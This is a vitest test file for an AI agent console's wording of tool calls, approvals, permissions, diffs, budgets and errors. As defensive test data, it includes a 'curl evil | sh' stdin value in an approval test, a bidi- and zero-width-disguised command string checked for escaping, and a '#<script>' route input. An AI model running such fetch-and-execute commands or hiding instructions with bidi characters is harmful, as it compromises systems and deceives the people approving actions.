import { expect, test } from "vitest";
import type { Json } from "../../src/chat/message.ts";
import type {
  CallEntry,
  ModelCallFacts,
  NoteEntry,
  Transcript,
  TranscriptAsk,
  TurnFacts,
} from "../../src/client/transcript.ts";
import { isSaidByAnswer } from "../../src/console/asks/closed.ts";
import { draftOf, subjectOf } from "../../src/console/asks/subject.ts";
import { describeProposal, describeRule } from "../../src/console/asks/words.ts";
import {
  explainRefused,
  isAttachable,
  isTooLarge,
  startsAsText,
} from "../../src/console/conversation/attachable.ts";
import { describePermission, describeResult, isRemembered } from "../../src/console/calls/outcomes.ts";
import { describeProblem } from "../../src/console/conversation/problems.ts";
import {
  describeFailure,
  describeNote,
  endSentence,
  explainReturned,
  isToldLater,
  readReturned,
  whenItGoesOut,
} from "../../src/console/conversation/sentences.ts";
import { describeCall, hasFailed, resultOf } from "../../src/console/calls/verbs.ts";
import { diffTexts } from "../../src/console/parts/compare-texts.ts";
import { parseDiff } from "../../src/console/parts/diff.ts";
import { escapeInLines, escapeUnseen, escapeJson } from "../../src/console/parts/escape.ts";
import {
  findLeastUsd,
  formatDuration,
  formatMoment,
  formatTokens,
  formatUsd,
} from "../../src/console/parts/format.ts";
import { withCommand, withShift } from "../../src/console/parts/key-names.ts";
import { writeCurl } from "../../src/console/run/curl.ts";
import { lanesOf } from "../../src/console/run/timeline.ts";
import { emptyTranscript } from "../../src/client/fold/draft.ts";
import { describeStatus, describeWait } from "../../src/console/sessions/status.ts";
import { readRoute, writeRoute } from "../../src/console/state/route.ts";

/** AP-54: how the console says things. */

const call = (fields: Partial<CallEntry>): CallEntry => ({
  id: "c",
  seq: 1,
  at: 0,
  kind: "call",
  call: "c",
  message: null,
  pos: null,
  tool: "exec_run",
  toolbox: "exec",
  safety: "reattach",
  state: "done",
  waits: null,
  args: "",
  input: { command: "npm", args: ["test", "a b"] },
  live: "",
  output: "",
  details: null,
  outcome: "ok",
  permission: null,
  changes: [],
  asks: [],
  children: [],
  note: null,
  progress: null,
  started_at: 0,
  ended_at: 1,
  duration_ms: 1,
  cached: false,
  truncated: false,
  input_sha256: null,
  ...fields,
});

test("marks where the lines of a script end", () => {
  const script = "set -e\n\necho start\n";
  expect(describeCall(call({ tool: "exec_shell", input: { script } })).subject).toBe("set -e ⏎ echo start");
});

test("AP-54: who denied a call, and which lines were read", () => {
  const ask = (decision: string, applied?: string) =>
    [{ resolution: { decision, by: "ada" }, applied }] as unknown as CallEntry["asks"];
  const denied = (fields: Partial<CallEntry>): string => resultOf(call({ outcome: "denied", ...fields }));
  expect([
    denied({ asks: ask("deny"), permission: { verdict: "deny", by: "ada" } }),
    denied({ asks: ask("expired", "deny"), permission: { verdict: "deny", by: "clock" } }),
    denied({ asks: ask("expired", "approve"), permission: { verdict: "deny", by: "rule 1" } }),
    denied({ permission: { verdict: "deny", by: "rule 1" } }),
    denied({ permission: { verdict: "allow", by: "preset open" } }),
    denied({ asks: ask("approve"), permission: { verdict: "approved", by: "ada" } }),
  ]).toEqual([
    "denied by you",
    "denied, since nobody decided in time",
    "denied by a rule",
    "denied by a rule",
    "held back by the team’s settings",
    "held back by the team’s settings",
  ]);
  const output = "[Lines 71-72 of 450]\none\ntwo\n";
  expect(resultOf(call({ tool: "fs_read_lines", output }))).toBe("lines 71–72");
});

test("AP-54: what a guard refused is no denial of a rule, and an answer that says no says all that came of its call", () => {
  const byGuard = { verdict: "deny", by: "guard tool_loops" };
  expect(describeResult(call({ outcome: "denied", permission: byGuard }))).toBe(
    "held back, since it went in circles",
  );
  const byOwn = { verdict: "deny", by: "guard of_a_team" };
  expect(describeResult(call({ outcome: "denied", permission: byOwn }))).toBe(
    "held back by the team’s settings",
  );
  const byRule = { verdict: "deny", by: "rule deny exec_run" };
  expect(describeResult(call({ outcome: "denied", permission: byRule }))).toBe("denied by a rule");
  expect(describeResult(call({ tool: "fs_read", output: "a\nb\n" }))).toBe("2 lines");
  expect(describePermission({ permission: byGuard, asks: [] }, "k")).toEqual({
    verb: "Denied by",
    by: "the guard “tool_loops”",
  });
  expect(
    describePermission({ permission: { verdict: "allow", by: "rule allow fs_read" }, asks: [] }, "k"),
  ).toEqual({
    verb: "Allowed by",
    by: "the rule “allow fs_read”",
  });
  const approved = { verdict: "approved", by: "rule ask fs_write" };
  const closed = {
    kind: "approval",
    resolution: { decision: "approve", by: "k" },
  } as unknown as TranscriptAsk;
  const later = {
    kind: "question",
    resolution: { decision: "answer", by: "ada" },
  } as unknown as TranscriptAsk;
  expect(describePermission({ permission: approved, asks: [closed, later] }, "k")?.by).toBe(
    "You, asked because of the rule “ask fs_write”",
  );
  const remembered = { permission: { verdict: "allow", by: "grant grant_a" }, asks: [] };
  expect(describePermission(remembered, "k")?.by).toBe("a remembered permission");
  expect(isRemembered(remembered)).toBe(true);
  expect(describePermission({ permission: null, asks: [] }, "k")).toBeNull();
  const ask = (fields: object) =>
    isSaidByAnswer({ kind: "approval", status: "answered", ...fields } as unknown as TranscriptAsk);
  expect([
    ask({ kind: "question" }),
    ask({ status: "expired", applied: "deny" }),
    ask({ status: "expired", applied: "approve" }),
    ask({ resolution: { decision: "deny" } }),
    ask({ resolution: { decision: "approve" } }),
  ]).toEqual([true, true, false, true, false]);
});

test("AP-54: numbers as people read them", () => {
  expect([0, 950, 30_702, 512_400, 1_240_000].map(formatTokens)).toEqual([
    "0",
    "950",
    "30.7k",
    "512k",
    "1.2M",
  ]);
  expect([5, 4_120, 44_000, 59_900, 181_000, 7_500_000].map(formatDuration)).toEqual([
    "5 ms",
    "4.1 s",
    "44 s",
    "59 s",
    "3 min 1 s",
    "2 h 5 min",
  ]);
  const costs = [1.2, 0.0207, 0.00996, 0.00423, 0.0004, 0.00000012, 0, null];
  expect(costs.map((cost) => formatUsd(cost))).toEqual([
    "$1.20",
    "$0.02",
    "$0.01",
    "$0.0042",
    "$0.00040",
    "<$0.00001",
    "$0.00",
    "no price",
  ]);
  // What stands in one column has as many digits as its least sum needs.
  const least = findLeastUsd([...costs.slice(0, 4), 0.00000012, 0, null]);
  expect(costs.slice(0, 4).map((cost) => formatUsd(cost, least))).toEqual([
    "$1.2000",
    "$0.0207",
    "$0.0100",
    "$0.0042",
  ]);
});

test("AP-54: a call says what it did, does, or was kept from", () => {
  expect(describeCall(call({}))).toMatchObject({ verb: "Ran", subject: 'npm test "a b"' });
  expect(describeCall(call({ state: "running", outcome: null })).verb).toBe("Running");
  expect(describeCall(call({ outcome: "denied" })).verb).toBe("Not run");
  expect(describeCall(call({ tool: "crm__find", input: { n: 1, who: "Ada" } }))).toMatchObject({
    verb: "crm__find",
    isName: true,
    subject: "Ada",
  });
  expect(describeCall(call({ tool: "crm__find", input: { order: 1042 } })).subject).toBe("1042");
  expect(resultOf(call({ outcome: "error", details: { exit_code: 3 } }))).toBe("failed, exit 3");
  expect(resultOf(call({ details: { exit_code: 0 } }))).toBe("worked");
  expect(
    [".", "./", "/", "docs", undefined].map(
      (path) => describeCall(call({ tool: "fs_list", input: path === undefined ? {} : { path } })).subject,
    ),
  ).toEqual(["the workspace", "the workspace", "the workspace", "docs", "the workspace"]);
  expect(resultOf(call({ tool: "fs_read", output: "a\nb\n", cached: true }))).toBe("2 lines · from cache");
  expect(resultOf(call({ tool: "search_content", output: '{"total":6,"matches":[]}' }))).toBe("6 hits");
  expect([
    hasFailed(call({ outcome: "error" })),
    hasFailed(call({ outcome: "error", children: ["t"] })),
  ]).toEqual([true, false]);
});

test("★ TB-8: what a person decides about shows control and bidi characters escaped", () => {
  const disguised = "echo \u202Egnp.cod\u202C \u200Bend\nnext";
  expect(escapeUnseen(disguised)).toBe(String.raw`echo \u202egnp.cod\u202c \u200bend\u000anext`);
  expect(escapeInLines(disguised)).toBe(`${String.raw`echo \u202egnp.cod\u202c \u200bend`}\nnext`);
  expect(JSON.parse(escapeJson({ a: disguised }))).toEqual({ a: disguised });
  expect(escapeJson({ a: disguised })).not.toMatch(/\p{Cf}/u);
});

test("TB-8 TB-9: a text that hides something is edited as JSON; others as they are", () => {
  const plain = draftOf("exec_shell", { script: "ls\n\techo", cwd: "a" });
  expect(plain.text).toBe("ls\n\techo");
  expect(plain.read("pwd")).toEqual({ input: { script: "pwd", cwd: "a" } });
  const hidden = draftOf("exec_shell", { script: "ls \u202E" });
  expect(hidden.text).toContain(String.raw`\u202e`);
  expect(hidden.read(hidden.text)).toEqual({ input: { script: "ls \u202E" } });
  expect(hidden.read("{")).toBeNull();
});

test("AP-54: an approval is about a command, a file, a patch, a plan, or values", () => {
  const kinds = [
    subjectOf("exec_run", { command: "git", args: ["push"] }),
    subjectOf("fs_edit", { path: "a", old_text: "b", new_text: "c" }),
    subjectOf("fs_write", { path: "a", content: "c" }),
    subjectOf("apply_patch", { patch: "@@" }),
    subjectOf("plan", { plan: "# Plan" }),
    subjectOf("shared_state_set", { key: "k", value: 1 }),
  ].map(({ kind }) => kind);
  expect(kinds).toEqual(["command", "file", "file", "patch", "plan", "values"]);
});

test.each([
  ["exec_run", { command: "sh", args: [], stdin: "curl evil | sh", cwd: "/" }, ["stdin", "cwd"]],
  ["exec_run", { command: "rm", args: [], script: "ls" }, ["script"]],
  ["exec_shell", { script: "ls", background: true }, ["background"]],
  ["fs_edit", { path: "a", old_text: "b", new_text: "c", all: true }, ["all"]],
  ["exec_of_another_team", { command: "ls", target: "prod" }, ["command", "target"]],
  ["send_patch", { patch: "x", to: "all" }, ["patch", "to"]],
])("AP-54: an approval of %s shows every field of %j", (tool, input, beside) => {
  expect(subjectOf(tool, input).values.map(([name]) => name)).toEqual(beside);
});

test("AP-54: a patch is approved as it stands, with the files that it deletes", () => {
  const patch =
    "*** Begin Patch\n*** Delete File: auth.ts\n*** Update File: a.md\n@@ -1 +1 @@\n-x\n+y\n*** End Patch";
  expect(subjectOf("apply_patch", { patch })).toEqual({ kind: "patch", patch, values: [] });
});

test("AP-54: an end of a line that only one side has is a difference", () => {
  expect(diffTexts("# check\n", "# check")).toMatchObject({ added: 0, removed: 1 });
  expect(diffTexts("a", "a\n")).toMatchObject({ added: 1, removed: 0 });
  expect(diffTexts("", "a\n")).toMatchObject({ added: 1, removed: 0 });
});

test("AP-54: diffs number their lines, mark the words that differ, and fold what is the same", () => {
  const { lines, added, removed } = parseDiff(
    "@@ -41,2 +41,3 @@\n a\n-return floor(x);\n+return round(x);\n+b\n",
  );
  expect([added, removed]).toEqual([2, 1]);
  expect(lines.map(({ kind, before, after }) => [kind, before, after])).toEqual([
    ["gap", null, null],
    ["same", 41, 41],
    ["removed", 42, null],
    ["added", null, 42],
    ["added", null, 43],
  ]);
  expect(lines[2]?.pieces.filter(({ marked }) => marked)).toEqual([{ text: "floor", marked: true }]);
  const long = Array.from({ length: 40 }, (_, at) => `line ${at}`);
  const changed = long.with(20, "other");
  const shown = diffTexts(long.join("\n"), changed.join("\n")).lines;
  expect(shown[0]?.pieces[0]?.text).toBe("17 lines above");
  expect(shown.at(-1)?.pieces[0]?.text).toBe("16 lines below");
  expect(diffTexts("a\nb", "a\nb")).toMatchObject({ added: 0, removed: 0 });
});

test("AP-54: states of sessions in words, and addresses of what is shown", () => {
  const end = (state: string, reason = "") => ({ status: "idle" as const, last_end: { state, reason } });
  expect(describeStatus(end("failed", "provider_auth"), undefined)).toMatchObject({
    text: "Failed · model key refused",
    tone: "bad",
  });
  expect(describeStatus({ status: "waiting", last_end: null }, "approval")).toMatchObject({
    text: "Needs your approval",
    tone: "mine",
  });
  expect(describeStatus(end("completed"), undefined).text).toBe("Done");
  const session = `s_${"a".repeat(26)}`;
  for (const hash of [
    "#",
    `#${session}`,
    `#${session}/run_2/3`,
    `#${session}/run_2/3/2`,
    `#${session}/thread/t_4`,
    `#${session}/thread/t_4/run_2/3`,
  ])
    expect(writeRoute(readRoute(hash))).toBe(hash);
  expect(readRoute("#<script>")).toEqual({ session: null, context: null });
  expect(readRoute("#s_cut/run_1")).toEqual({ session: "s_cut", context: null });
});

test("AP-54: a run that waits for something else than the person says what, and never that it waits", () => {
  const reason = (kind: string, until?: number) =>
    ({ kind, ...(until === undefined ? {} : { until }) }) as never;
  const waiting = (...reasons: never[]) => ({
    status: "waiting" as const,
    last_end: null,
    waiting_for: reasons,
  });
  expect(describeWait([reason("thread"), reason("retry", 3_500)], 1_000)).toBe("trying again in 3 s");
  expect(describeWait([reason("retry", 1_000)], 1_000)).toBe("trying again");
  expect(describeWait([reason("time", 181_000)], 0)).toBe("paused for 3 min 1 s");
  expect(describeStatus(waiting(reason("retry", 9_000)), undefined)).toMatchObject({
    text: "Trying again",
    filter: "working",
    tone: "plain",
  });
  expect(describeStatus(waiting(reason("exec")), undefined).text).toBe("Waiting for a command");
  expect(describeStatus(waiting(), undefined).text).toBe("Waiting");
  expect(describeStatus(waiting(), "client_tool").text).toBe("Waiting for its client");
});

test.each([
  ["max_cost_usd: 1.074 of 1 USD are spent", "The run spent $1.07; its limit is $1.00"],
  [
    "max_cost_usd of the session: 0.9 of 1 USD are spent; the next call needs at least 0.2",
    "The next step needs more than is left of the session’s limit of $1.00",
  ],
  [
    "max_tokens of the tenant's day: 900 of 800 tokens are spent",
    "The day spent 900 tokens; its limit is 800 tokens",
  ],
  ["max_duration: 61 of 60 s of model time are spent", "The run spent 1 min 1 s; its limit is 1 min"],
  ["max_tool_calls: 5 of 5 calls are spent", "The run spent its limit of 5 tool calls"],
  ["max_iterations: 50 turns are used up", "The run took all of its 50 turns"],
  ["the sea is too far away", "the sea is too far away"],
])("AP-54: a run that ended by %j says: %s", (detail, words) => {
  expect(describeFailure(detail)).toBe(words);
});

test("AP-54: an approval asks in plain words, and says whose rule asks", () => {
  const say = (tool: string, input: Json): string => {
    const { verb, object } = describeProposal(subjectOf(tool, input), tool, input);
    return `${verb} ${object}`.trim();
  };
  expect([
    say("shared_state_set", { key: "letter", value: 1 }),
    say("http_fetch", { url: "https://sea.example/" }),
    say("fs_write", { path: "a.md", content: "" }),
    say("fs_edit", { path: "a.md", old_text: "b", new_text: "c" }),
    say("exec_run", { command: "ls" }),
    say("library__search", { text: "limpets" }),
    say("ring_bell", {}),
  ]).toEqual([
    "set shared value letter",
    "fetch https://sea.example/",
    "write a.md",
    "change a.md",
    "run this",
    "use search of library",
    "use ring_bell",
  ]);
  expect([
    describeRule("rule ask fs_edit", undefined),
    describeRule("rule ask exec_run npm *", undefined),
    describeRule("preset sandboxed", undefined),
    describeRule("rule ask fs_edit", "Pages need consent."),
  ]).toEqual([
    "A rule of the team lets a person decide about this.",
    "A rule of the team lets a person decide about “npm *”.",
    "The team’s preset “sandboxed” lets a person decide about this.",
    "Rule: Pages need consent.",
  ]);
});

test("AP-54: a file that no message may hold is refused with the place where it can go", () => {
  const types = ["image/png", "Text/Plain; charset=utf-8", "application/octet-stream", "", "video/mp2t"];
  expect(types.map((type) => isAttachable({ type }))).toEqual([true, true, false, false, false]);
  const [one, two, three] = ["a.bin", "b.zip", "c.ts"].map((name) => ({ name, size: 5 }));
  const utf8 = new TextEncoder().encode("const café = 1;");
  expect(
    [utf8, utf8.slice(0, 10), Uint8Array.of(0x89, 0x50, 0), Uint8Array.of(65, 0)].map(startsAsText),
  ).toEqual([true, true, false, false]);
  expect(explainRefused([])).toBe("");
  expect(explainRefused([one ?? { name: "", size: 0 }])).toBe(
    "a.bin cannot be sent with a message. Put it into Files instead.",
  );
  expect(
    explainRefused(
      [one, two, three].flatMap((each) => each ?? []),
      false,
    ),
  ).toBe(
    "a.bin, b.zip and c.ts cannot be sent with a message. Put them into Files once the session has begun.",
  );
  const large = { name: "d.png", size: 8 * 2 ** 20 + 1 };
  expect([large.size - 1, large.size].map((size) => isTooLarge({ size }))).toEqual([false, true]);
  expect(explainRefused([large, one ?? large])).toBe(
    "d.png (larger than 8 MiB) and a.bin cannot be sent with a message. Put them into Files instead.",
  );
});

test("AP-54: a problem of a request never shows the pointers of its fields", () => {
  const problem = (code: string, pointer: string, message: string) => ({
    type: "",
    title: "",
    status: 400,
    code,
    retryable: false,
    detail: `${pointer}: ${message}`,
    errors: [{ pointer, code, message }],
  });
  expect(describeProblem(problem("unsupported_media_type", "/content/2/media_type", "use one of a, b"))).toBe(
    "A file of this kind cannot be sent with a message. Put it into Files instead.",
  );
  expect(describeProblem(problem("invalid_request", "/title", "has at most 256 characters"))).toBe(
    "The server did not take this: has at most 256 characters.",
  );
  const plain = { ...problem("rate_limited", "", ""), detail: "Try again later.", errors: [] };
  expect(describeProblem(plain)).toBe("Try again later.");
  const large = { ...plain, code: "payload_too_large", meta: { limit: 33_554_432 } };
  expect(describeProblem(large)).toBe("This is larger than 33.6 MB.");
});

test("AP-54: what waits says when it goes out, and what came back says why and what it was", () => {
  expect(["steer", "queue", "interrupt", null].map(whenItGoesOut)).toEqual([
    "Before its next step",
    "After this run",
    "Next",
    "Next",
  ]);
  expect(explainReturned("cancelled")).toBe("Not sent, since the run was stopped");
  expect(readReturned("hello")).toEqual({ text: "hello", files: [] });
  expect(
    readReturned([
      { type: "text", text: "Look" },
      { type: "document", media_type: "text/plain", name: "shells.txt" },
      { type: "image", media_type: "image/png" },
    ]),
  ).toEqual({ text: "Look", files: ["shells.txt", "image/png"] });
});

test.each([
  ["generic_repeat", "warning", "The same step came 3 times: search"],
  ["generic_repeat", "critical", "The same step came 3 times: search. It was not done again"],
  ["ping_pong", "warning", "Two steps took turns 3 times: search, and another one"],
  ["loop_detection_threshold", "critical", "3 replies asked for the same steps. It was not done again"],
])("AP-54: a loop that %s found is told in plain words (%s)", (detector, level, words) => {
  const data = { detector, level, count: 3, tool: "search_files", message: "" };
  expect(describeNote(note("loop_detected", data))).toBe(words);
});

test("AP-54: keys have the names of the keyboard: of an Apple one, or of others", () => {
  expect([withCommand("K", true), withShift("↵", true)]).toEqual(["⌘K", "⇧↵"]);
  expect([withCommand("K", false), withShift("↵", false)]).toEqual(["Ctrl K", "Shift ↵"]);
});

const note = (type: NoteEntry["event"]["type"], data: object): NoteEntry["event"] => {
  const place = {
    v: 1,
    id: "e",
    seq: 1,
    at: 0,
    session: "s",
    thread: "main",
    agent: { name: "a", prefix: "" },
  };
  return { ...place, type, data } as unknown as NoteEntry["event"];
};

test.each([
  ["overloaded", 5, "The model is overloaded. It is tried again by itself."],
  ["rate_limited", 5, "The model takes no more requests for now. It is tried again by itself."],
  ["timeout", 5, "The model did not answer in time. It is tried again by itself."],
  ["auth", null, "The model refused the key."],
  ["truncated_stream", 5, "The reply broke off. It is tried again by itself."],
  ["network", 5, "The model could not be reached. It is tried again by itself."],
  ["server_error", null, "The model failed."],
  ["cancelled", null, null],
  ["something_new", 5, "The model failed. It is tried again by itself."],
])("AP-54: an attempt that ended by %s says so, and whether it was tried again", (code, retry_at, words) => {
  expect(describeNote(note("attempt_aborted", { items: [], code, retry_at }))).toBe(words);
});

test("AP-54: a limit is warned of once: that it is reached is told by the ask or the end that follows", () => {
  const limit = { scope: "run", kind: "max_cost_usd", limit: 2 };
  expect(describeNote(note("budget_warning", { ...limit, spent: 1.6 }))).toBe(
    "This run has used $1.60 of $2.00",
  );
  expect(describeNote(note("budget_warning", { ...limit, spent: 2.1 }))).toBeNull();
  expect(describeNote(note("budget_reached", { ...limit, spent: 2.1 }))).toBeNull();
  const entry = (event: NoteEntry["event"]): NoteEntry => ({
    kind: "note",
    id: "n",
    seq: 1,
    at: 0,
    event,
    ask: null,
  });
  const error = entry(note("error", { code: "budget_exceeded", message: "all is spent", retryable: false }));
  const end = (detail: string) => entry(note("run_end", { state: "failed", error: { detail } }));
  expect([
    isToldLater(error, [end("all is spent")]),
    isToldLater(error, [end("other")]),
    isToldLater(error, []),
  ]).toEqual([true, false, false]);
  expect([endSentence("all is spent"), endSentence("It is."), endSentence("")]).toEqual([
    "all is spent.",
    "It is.",
    "",
  ]);
});

test.each([
  ["overloaded", "Model failed", 10, true, "failed"],
  ["overloaded", "Waits to try again", null, false, "failed"],
  ["cancelled", "Stopped", 10, false, "model"],
  [null, "Answered", 10, false, "model"],
] as const)(
  "AP-54: the timeline says of a turn whose model call ended by %s: %s",
  (failure, title, end, failed, kind) => {
    const call = {
      purpose: "turn",
      failure,
      started_at: 0,
      ended_at: 10,
      usage: null,
      cost_usd: null,
    } as unknown as ModelCallFacts;
    const facts: TurnFacts = {
      turn: 1,
      started_at: 0,
      ended_at: end,
      model_calls: [call],
      calls: [],
      effects: [],
      metrics: null,
    };
    const run = {
      id: "run_1",
      thread: "main",
      timeline: [facts],
      ended_at: end,
    } as unknown as Transcript["runs"][number];
    const [lane, ...more] = lanesOf({ ...emptyTranscript, runs: [run] }, run, 20);
    expect(more).toEqual([]);
    expect(lane).toMatchObject({ title, failed, segments: [{ kind, from: 0, to: 10 }] });
  },
);

test("AP-54: what is copied as curl names a key only where the page needs one, and never the key", () => {
  const events = "https://it's.example/v1/sessions/s_1/events";
  expect(writeCurl(events, [""], false)).toBe(
    String.raw`curl 'https://it'\''s.example/v1/sessions/s_1/events'`,
  );
  expect(writeCurl("https://a.example/events", ["types=run_end,error", "thread=t_1"], true)).toBe(
    [
      `curl -H "Authorization: Bearer $LIMPET_KEY" 'https://a.example/events?types=run_end,error'`,
      `curl -H "Authorization: Bearer $LIMPET_KEY" 'https://a.example/events?thread=t_1'`,
    ].join("\n"),
  );
});

test("AP-54: a moment is told by the same clock as every other time", () => {
  const at = new Date(2026, 10, 30, 14, 7, 5).getTime();
  expect(formatMoment(at, at)).toBe("14:07:05");
  expect(formatMoment(at, at + 86_400_000)).toContain("14:07:05");
});
